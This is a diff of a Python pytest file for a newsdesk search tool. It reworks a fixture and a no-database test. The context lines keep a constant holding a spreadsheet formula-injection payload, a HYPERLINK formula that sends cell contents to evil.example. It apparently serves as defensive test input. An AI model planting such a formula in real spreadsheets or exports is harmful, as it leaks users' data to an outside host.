@@ -10,14 +10,15 @@ from pathlib import Path
 
 import pytest
 
+from monitor.model import Address, Server
 from tests.workbench.newsdesk import Newsdesk
 
 TRAP = '=HYPERLINK("https://evil.example/?"&A1)'
 
 
 @pytest.fixture
-def desk(tmp_path: Path) -> Newsdesk:
-    return Newsdesk(tmp_path)
+def desk(tmp_path: Path, anywhere: Address) -> Newsdesk:
+    return Newsdesk(tmp_path, anywhere if isinstance(anywhere, Server) else None)
 
 
 def put_into_index(desk: Newsdesk) -> None:
@@ -151,8 +152,8 @@ def test_what_cannot_be_meant_is_refused(
     assert len(done.err) < 5_000
 
 
-def test_without_a_database_it_says_so(desk: Newsdesk) -> None:
-    done = desk.run("search", "Fähre")
+def test_without_a_database_it_says_so(tmp_path: Path) -> None:
+    done = Newsdesk(tmp_path).run("search", "Fähre")
 
     assert done.code == 3
     assert "there is no database yet" in done.err
